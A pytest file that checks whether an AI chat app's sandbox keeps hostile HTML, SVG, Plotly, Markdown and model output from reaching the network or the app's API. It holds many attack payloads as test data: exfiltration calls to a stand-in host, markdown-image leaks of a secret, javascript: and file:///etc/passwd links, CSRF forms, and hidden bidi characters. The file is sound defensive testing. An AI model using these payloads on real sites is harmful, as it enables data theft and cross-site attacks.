# SPDX-License-Identifier: MIT
"""What code and models write is hostile (FIL-25, FIL-26, AGT-02): none of it leaves its place.

A server on another port of this host stands for the rest of the world. It answers everything, so what
the page or a frame could reach it has reached, and is in its list of requests.
"""

import json
import re

import fakemodel
import pytest
import webpage
from webpage import expect

BLOCKED = ("Content Security Policy", "sandboxed", "policy: ", "ERR_BLOCKED", "SecurityError",
           "Failed to register a ServiceWorker", "Unsafe attempt", "ERR_UNKNOWN_URL_SCHEME",
           "Failed to load resource", "Not allowed to load local resource", "is denied for this",
           "Permissions policy", "violates the following", "modal", "Autofocus")


@pytest.fixture(scope="module")
def world():
    """The rest of the world."""
    with webpage.Elsewhere() as server:
        yield server


@pytest.fixture
def quiet(world):
    """The world, of which nothing may have been asked when the test is over."""
    world.requests.clear()
    yield world
    assert world.requests == []


@pytest.fixture
def tab(direct, tab_of):
    """A tab with a new chat, in which attempts that fail are complained about."""
    tab = tab_of(direct).open()
    tab.allow(*BLOCKED)
    return tab


# ---- HTML in its frame

# Each attempt is tried by itself and says what became of it; the last line tells that all are over.
ATTEMPTS = """
<!doctype html><meta charset="utf-8">
<meta http-equiv="refresh" content="1; url=WORLD/refresh">
<link rel="stylesheet" href="WORLD/style.css"><link rel="prefetch" href="WORLD/prefetch">
<link rel="preconnect" href="WORLD"><link rel="dns-prefetch" href="WORLD">
<base href="WORLD/base/"><img src="WORLD/image.png"><img src="relative.png">
<video src="WORLD/video.webm" autoplay></video><audio src="WORLD/audio.ogg" autoplay></audio>
<object data="WORLD/object"></object><embed src="WORLD/embed"><iframe src="WORLD/frame"></iframe>
<iframe src="PAGE/"></iframe><script src="WORLD/script.js"></script>
<style>@import url(WORLD/import.css); body { background: url(WORLD/background.png) }
@font-face { font-family: f; src: url(WORLD/font.woff) } p { font-family: f }</style><p>hostile
<form id="out" action="PAGE/threads" method="post" enctype="text/plain" target="_top">
<input name='{"metadata":{"made":"by form"},"x":"' value='"}'></form>
<form id="away" action="WORLD/form" method="get"><input name="a" value="b"></form>
<a id="top" href="WORLD/top" target="_top">top</a><a id="blank" href="WORLD/blank" target="_blank">new</a>
<a id="ping" href="#x" ping="WORLD/ping">ping</a><a id="save" href="WORLD/save" download>save</a>
<div id="said"></div>
<script>
const said = {};
const attempt = async (name, action) => {
  try { said[name] = String(await action()).slice(0, 80); } catch (e) { said[name] = "failed: " + e.name; }
};
const late = (promise) => Promise.race([promise,
  new Promise((_, no) => setTimeout(() => no(new DOMException("late", "Late")), 3000))]);
(async () => {
  await attempt("parent", () => parent.document.title);
  await attempt("top", () => top.document.cookie);
  await attempt("cookie", () => document.cookie);
  await attempt("localStorage", () => localStorage.length);
  await attempt("sessionStorage", () => sessionStorage.length);
  await attempt("indexedDB", () => late(new Promise((yes, no) => {
    const r = indexedDB.open("x"); r.onsuccess = () => yes("opened"); r.onerror = () => no(r.error); })));
  await attempt("caches", () => caches.open("x"));
  await attempt("worker", () => navigator.serviceWorker.register("PAGE/favicon.svg"));
  await attempt("fetchApi", () => late(fetch("PAGE/threads", {method: "POST", body: "{}",
    headers: {"content-type": "application/json"}})));
  await attempt("fetchText", () => late(fetch("PAGE/threads", {method: "POST", body: "{}", mode: "no-cors"})));
  await attempt("fetchWorld", () => late(fetch("WORLD/fetch", {mode: "no-cors"})));
  await attempt("xhr", () => late(new Promise((yes, no) => { const x = new XMLHttpRequest();
    x.onload = () => yes("loaded"); x.onerror = () => no(new DOMException("x", "Blocked"));
    x.open("GET", "WORLD/xhr"); x.send(); })));
  await attempt("beacon", () => navigator.sendBeacon("WORLD/beacon", "x"));
  await attempt("socket", () => late(new Promise((yes, no) => { const s = new WebSocket("WORLD/socket".replace("http", "ws"));
    s.onopen = () => yes("open"); s.onerror = () => no(new DOMException("x", "Blocked")); })));
  await attempt("events", () => late(new Promise((yes, no) => { const s = new EventSource("WORLD/events");
    s.onopen = () => yes("open"); s.onerror = () => no(new DOMException("x", "Blocked")); })));
  await attempt("open", () => window.open("WORLD/open"));
  await attempt("topNavigation", () => { top.location = "WORLD/navigation"; return "asked"; });
  await attempt("parentNavigation", () => { parent.location.href = "WORLD/parent"; return "asked"; });
  await attempt("clickTop", () => { document.getElementById("top").click(); return "asked"; });
  await attempt("clickBlank", () => { document.getElementById("blank").click(); return "asked"; });
  await attempt("clickPing", () => { document.getElementById("ping").click(); return "asked"; });
  await attempt("clickSave", () => { document.getElementById("save").click(); return "asked"; });
  await attempt("form", () => { document.getElementById("out").submit(); return "asked"; });
  await attempt("formAway", () => { document.getElementById("away").submit(); return "asked"; });
  await attempt("dialog", () => { alert("x"); return prompt("key?"); });
  await attempt("geolocation", () => late(new Promise((yes, no) =>
    navigator.geolocation.getCurrentPosition(() => yes("there"), (e) => no(new DOMException("x", "Denied"))))));
  await attempt("clipboard", () => late(navigator.clipboard.readText()));
  await attempt("fullscreen", () => document.documentElement.requestFullscreen());
  await attempt("rtc", async () => { const c = new RTCPeerConnection({iceServers: [{urls: "stun:127.0.0.1:9"}]});
    c.createDataChannel("x"); await c.setLocalDescription(await c.createOffer()); return "made"; });
  await attempt("messages", () => { for (const m of [
      {frame: "sandbox-agent", type: "size", height: 1e9}, {frame: "sandbox-agent", type: "link", href: "javascript:alert(1)"},
      {frame: "sandbox-agent", type: "link", href: "WORLD/link"}, {frame: "sandbox-agent", type: "picture", image: "data:text/html,x"},
      {type: "theme"}, null, "x", {frame: "sandbox-agent", type: "nonsense"}]) parent.postMessage(m, "*"); return "sent"; });
  document.getElementById("said").textContent = "over " + JSON.stringify(said);
})();
</script>
"""


def test_html_reaches_nothing(direct, quiet, tab):
    """FIL-25: nothing of the page, its origin, its storage or its API, and nobody else."""
    dialogs, popups = [], []
    tab.page.on("dialog", lambda dialog: (dialogs.append(dialog.message), dialog.dismiss()))
    tab.context.on("page", lambda page: popups.append(page.url))
    tab.page.evaluate("() => localStorage.setItem('secret', 'of the page')")
    before = direct.post("/threads/count", {}).json
    html = ATTEMPTS.replace("WORLD", quiet.url).replace("PAGE", direct.url)
    tab.say("from IPython.display import HTML, display\ndisplay(HTML(" + json.dumps(html) + "))")
    tab.answered(1)
    block = tab.blocks().last
    frame = block.locator("iframe").first.content_frame
    expect(frame.locator("#said")).to_contain_text("over {")
    said = json.loads(frame.locator("#said").text_content().removeprefix("over "))
    reached = {name: became for name, became in said.items() if not became.startswith("failed: ")}
    harmless = {"beacon", "open", "topNavigation", "parentNavigation", "clickTop", "clickBlank",
                "clickPing", "clickSave", "form", "formAway", "dialog", "messages", "rtc", "geolocation"}
    assert set(reached) <= harmless, reached
    assert reached.get("open", "null") == "null" and reached.get("dialog", "null") == "null"
    assert tab.page.url.startswith(direct.url) and not popups and not dialogs
    # What it wanted to open is said, and never by itself.
    expect(block.get_by_text("The content wants to open:")).to_be_visible()
    assert block.locator("a[href^='javascript:']").count() == 0
    box = block.locator("iframe").first.bounding_box()
    assert box["height"] <= 6000, box
    assert direct.post("/threads/count", {}).json == before + 1  # our own
    assert tab.page.evaluate("() => navigator.serviceWorker.getRegistrations()"
                             ".then((all) => all.length)") == 0
    foreign = [url for url in tab.foreign if not tab_blocked(tab, url)]
    assert not foreign, foreign
    tab.foreign.clear()
    tab.say("1 + 1")
    tab.answered(2)


def tab_blocked(tab, url):
    """Whether a request was stopped before it left: the browser reports those, too."""
    return any(r.url == url and r.failure for r in tab.requests)


def test_a_frame_that_goes_elsewhere_shows_nothing_of_it(quiet, tab):
    """FIL-25: a frame may try to become another page; the page's policy lets it load none."""
    tab.say("from IPython.display import HTML, display\ndisplay(HTML('<p id=here>here</p>"
            f"<script>setTimeout(() => {{ location = \"{quiet.url}/self\" }}, 0)</script>'))")
    tab.answered(1)
    expect(tab.blocks().last.locator("iframe")).to_be_attached()
    webpage.until(lambda: any("Content Security Policy" in c or "ERR_BLOCKED" in c
                              for c in tab.complaints), "the attempt is refused")
    tab.foreign.clear()


def test_svg_is_only_a_picture(quiet, tab):
    tab.say(f"""\
from IPython.display import SVG, display
display(SVG('<svg xmlns="http://www.w3.org/2000/svg" width="50" height="50" onload="fetch(\\'{quiet.url}/a\\')">'
 '<script>fetch("{quiet.url}/b"); parent.document.title = "hacked"</script>'
 '<image href="{quiet.url}/c.png" width="9" height="9"/><rect width="9" height="9"/>'
 '<foreignObject width="50" height="50"><body xmlns="http://www.w3.org/1999/xhtml">'
 '<iframe src="{quiet.url}/d"></iframe></body></foreignObject></svg>'))""")
    tab.answered(1)
    image = tab.blocks().last.locator("img")
    expect(image).to_be_visible()
    assert image.evaluate("(i) => i.decode().then(() => i.naturalWidth)") == 50
    assert "hacked" not in tab.page.title()


PLOTLY = """\
from IPython.display import display
display({'application/vnd.plotly.v1+json': {'data': [{'type': 'scatter', 'x': [1, 2], 'y': [1, 2],
    'name': '<img src=WORLD/name onerror="fetch(\\'WORLD/x\\')"><a href="javascript:alert(1)">n</a>'}],
  'layout': {'images': [{'source': 'WORLD/layout.png', 'x': 0, 'y': 0, 'sizex': 1, 'sizey': 1}],
    'title': {'text': '<a href="WORLD/title" target="_top">t</a>'}},
  'config': {'plotlyServerURL': 'WORLD/plotly', 'showSendToCloud': True, 'topojsonURL': 'WORLD/topo'}}},
  raw=True)
"""


def test_a_figure_asks_nobody(quiet, tab):
    tab.say(PLOTLY.replace("WORLD", quiet.url))
    tab.answered(1)
    frame = tab.blocks().last.locator("iframe").content_frame
    expect(frame.locator(".js-line").first).to_be_attached()
    tab.foreign.clear()


# ---- Markdown and text

MARKDOWN = """\
# Heading
![secret](WORLD/?d=SECRET) ![data](data:image/svg+xml,<svg/onload=alert(1)>)
![reference][r] <img src="WORLD/raw.png" onerror="alert(1)">

[r]: WORLD/ref.png

<script>fetch("WORLD/script")</script> <iframe src="WORLD/frame"></iframe>

<style>body { display: none; background: url(WORLD/style) }</style>

<form action="WORLD/form"><button>send</button></form> <svg><use href="WORLD/use"/></svg>

[script](javascript:alert(1)) [data](data:text/html,x) [file](file:///etc/passwd) [vb](vbscript:x)
[blob](blob:x) [user](http://user:pass@127.0.0.1/) [good](WORLD/good) <WORLD/auto> WORLD/bare

[relative](/threads) [protocol](//elsewhere.invalid/x) [encoded](java&#115;cript:alert(1))

$\\href{javascript:alert(1)}{formula}$ $\\includegraphics{WORLD/tex.png}$ $\\url{WORLD/texurl}$

$$\\htmlData{x=1}{\\htmlStyle{background: url(WORLD/katex)}{y}}$$

zero\u200bwidth bidi\u202eevil\u202c tag\U000e0041\U000e0042 end
"""


def test_markdown_loads_and_runs_nothing(server_of, quiet, tab_of):
    """AGT-02: no image of elsewhere, no script, no element of its own, no hidden character."""
    text = MARKDOWN.replace("WORLD", quiet.url)
    with fakemodel.FakeModel(lambda _: {"text": text}) as model:
        server = server_of(model)
        tab = tab_of(server).open()
        tab.say("hello")
        answer = tab.answered(1)
        expect(answer.get_by_role("heading", name="Heading")).to_be_visible()
        hrefs = answer.locator("a").evaluate_all("(all) => all.map((a) => [a.href, a.rel, a.target])")
        assert hrefs, "links that are good are links"
        for href, rel, target in hrefs:
            assert href.startswith((quiet.url + "/", server.url + "/#", "#", server.url + "/?")), href
            if href.startswith(quiet.url):
                assert "noopener" in rel and "noreferrer" in rel and target == "_blank"
        assert f"{quiet.url}/good" in [h for h, _, _ in hrefs]
        made = "script, iframe, form, style, object, embed, link, img:not([src^='data:image/'])"
        assert answer.locator(made).count() == 0
        text = answer.text_content()
        assert not re.search("[\u200b\u202e\U000e0041\U000e0042]", text), "hidden characters"
        assert tab.page.locator("body").is_visible()


def test_what_people_see_of_output_that_wants_to_be_more(quiet, tab):
    """AGT-02: printed Markdown, HTML and control characters stay text."""
    tab.say("print('![](%s/?d=1) <img src=%s/x> \\x1b]8;;%s/link\\x07click\\x1b]8;;\\x07 "
            "\\u202eltr \\u200bzero')" % ((quiet.url,) * 3))
    answer = tab.answered(1)
    log = tab.opened(tab.blocks().last).get_by_role("log")
    expect(log).to_contain_text(f"![]({quiet.url}/?d=1) <img src={quiet.url}/x>")
    assert log.locator("img, a").count() == 0
    assert not re.search("[\u200b\u202e\x1b\x07]", log.text_content())
    assert answer.locator("img").count() == 0


# ---- other pages


ATTACK = """<!doctype html><body><script>
const json = {"content-type": "application/json"}, text = {"content-type": "text/plain"};
const form = new FormData();
form.append("files", new Blob(["x"]), "x");
const make = (headers, mode) => fetch("PAGE/threads", {method: "POST", body: "{}", headers, mode});
const tries = {
  simple: () => make(text, "no-cors").then((r) => r.type),
  json: () => make(json).then((r) => r.status),
  read: () => fetch("PAGE/info").then((r) => r.text()),
  page: () => fetch("PAGE/", {headers: {accept: "text/html"}}).then((r) => r.text()),
  any: () => fetch("ANY/threads", {method: "POST", body: "{}", headers: text}).then((r) => r.text()),
  upload: () => fetch("PAGE/threads/THREAD/files/upload", {method: "POST", body: form,
    mode: "no-cors"}).then((r) => r.type),
  remove: () => fetch("PAGE/threads/THREAD", {method: "DELETE"}).then((r) => r.status),
};
(async () => {
  const became = {};
  for (const [name, action] of Object.entries(tries))
    became[name] = await action().catch((error) => error.name);
  document.title = JSON.stringify(became);
})();
</script>
<iframe id="page" src="PAGE/"></iframe><iframe id="display" src="PAGE/frame.html"></iframe>
<form action="PAGE/threads" method="post" enctype="text/plain" target="answer">
<input name='{"x":"' value='"}'></form><iframe name="answer"></iframe>
<script>document.forms[0].submit()</script>"""


def test_a_foreign_page_can_do_nothing(direct, chromium):
    """API-22, API-25: forms, requests and frames of another page change nothing, read nothing."""
    thread = direct.thread()
    before = direct.post("/threads/count", {}).json
    any_host = direct.url.replace("127.0.0.1", "0.0.0.0")
    attack = ATTACK.replace("PAGE", direct.url).replace("ANY", any_host).replace("THREAD", thread)
    context = chromium.new_context()
    with webpage.Elsewhere({"/": attack}) as evil:
        page = context.new_page()
        loaded = []
        page.on("requestfinished", lambda request: loaded.append(request.url))
        page.goto(evil.url.replace("127.0.0.1", "evil.test"))
        webpage.until(lambda: page.title().startswith("{"), "all is tried")
        became = json.loads(page.title())
        assert became.pop("simple") in ("opaque", "TypeError"), became
        assert became.pop("upload") in ("opaque", "TypeError"), became
        assert set(became.values()) == {"TypeError"}, became
        page.wait_for_load_state()
        for frame in page.frames[1:]:
            assert frame.locator("#root, #composer").count() == 0, frame.url
    context.close()
    assert direct.post("/threads/count", {}).json == before
    assert direct.get(f"/threads/{thread}").status == 200
    assert direct.get(f"/threads/{thread}/files").json["uploads"] == []
